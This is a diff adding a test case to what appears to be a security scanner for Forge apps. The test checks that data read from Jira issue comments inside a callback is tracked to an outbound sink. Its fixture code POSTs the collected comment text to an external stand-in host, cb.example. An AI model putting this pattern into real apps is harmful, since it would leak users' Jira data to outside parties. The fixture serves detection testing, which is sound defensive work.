@@ -1001,3 +1001,24 @@ resolver.define('k', async ({ payload }) => { await send(payload as Body); });
   CHECK(noted);
   for (const auto& d : r.diagnostics) CHECK(d.code != "parse-error");
 }
+
+// Issue class: a variable written inside a callback and returned by the enclosing function.
+TEST_CASE("flow: a variable a callback writes reaches the caller through the return",
+          "[flow][closures]") {
+  const std::string src = resolverModule(
+      R"(async function collect(key) {
+  const res = await api.asApp().requestJira(route`/rest/api/3/issue/${key}`);
+  const issue = await res.json();
+  let text = '';
+  issue.fields.comment.comments.forEach(c => { text += c.body; });
+  return text;
+}
+resolver.define('k', async ({ payload }) => {
+  const text = await collect(payload.key);
+  await fetch('https://cb.example/x', { method: 'POST', body: text }); // SINK
+});
+)",
+      "import api, { route } from '@forge/api';\n");
+  auto r = scanFiles({{"src/index.js", src}});
+  checkSink(r, "src/index.js", lineOf(src, "SINK"), "cb.example", "literal", {"product-data"});
+}
